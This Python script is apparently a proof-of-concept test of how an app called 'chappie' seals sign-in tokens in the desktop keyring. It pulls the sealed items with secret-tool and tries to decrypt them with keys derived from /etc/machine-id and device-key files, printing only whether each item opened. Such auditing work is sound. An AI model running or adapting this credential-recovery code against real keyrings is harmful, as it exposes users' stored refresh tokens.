#!/usr/bin/env python3
"""The attack of a program with access to the keyring: it tries to open stored sign-ins with everything it can read.

    open-seal.py STATE_DIRECTORY

Prints `opened with HOW` or `closed` for each item that the keyring returns, and last their number.
"""

import base64
import ctypes
import hashlib
import re
import subprocess
import sys
from pathlib import Path

SODIUM = ctypes.CDLL("libsodium.so.23")
NONCE, TAG = 24, 16
SLOT = b"com.chappie.sdk\0default\0\0\0"
PURPOSES = (b"org.chappie device key", b"org.chappie seal")


def hashed(material, purpose, key=b""):
    return hashlib.blake2b(bytes([len(purpose)]) + purpose + material, key=key, digest_size=32).digest()


def keys(state):
    """All candidates for the key, each with its origin."""
    machine = Path("/etc/machine-id").read_bytes().strip()
    for purpose in PURPOSES:
        yield "the machine id", hashed(machine, purpose)
        yield "the machine id and a key of zeros", hashed(machine, purpose, bytes(32))
    for path in sorted(state.glob("device-key*")):
        found = path.read_bytes()
        yield f"the machine id and {path.name}", hashed(machine, PURPOSES[1], found[:64])


def opens(line, key):
    sealed = base64.b64decode(line.split(":")[-1])
    nonce, ciphertext = sealed[:NONCE], sealed[NONCE:]
    plain = ctypes.create_string_buffer(len(ciphertext) - TAG)
    status = SODIUM.crypto_aead_xchacha20poly1305_ietf_decrypt(
        plain, None, None, ciphertext, ctypes.c_ulonglong(len(ciphertext)), SLOT, ctypes.c_ulonglong(len(SLOT)),
        nonce, key)
    return status == 0 and b"refresh_token" in plain.raw


search = subprocess.run(
    ["secret-tool", "search", "--all", "xdg:schema", "org.chappie.Credential"], capture_output=True, text=True)
lines = re.findall(r"^secret = (.*)$", search.stdout, re.M)
for line in lines:
    how = next((how for how, key in keys(Path(sys.argv[1])) if opens(line, key)), None)
    print(f"opened with {how}" if how else "closed")
print(len(lines), "items", search.stderr if not lines else "")
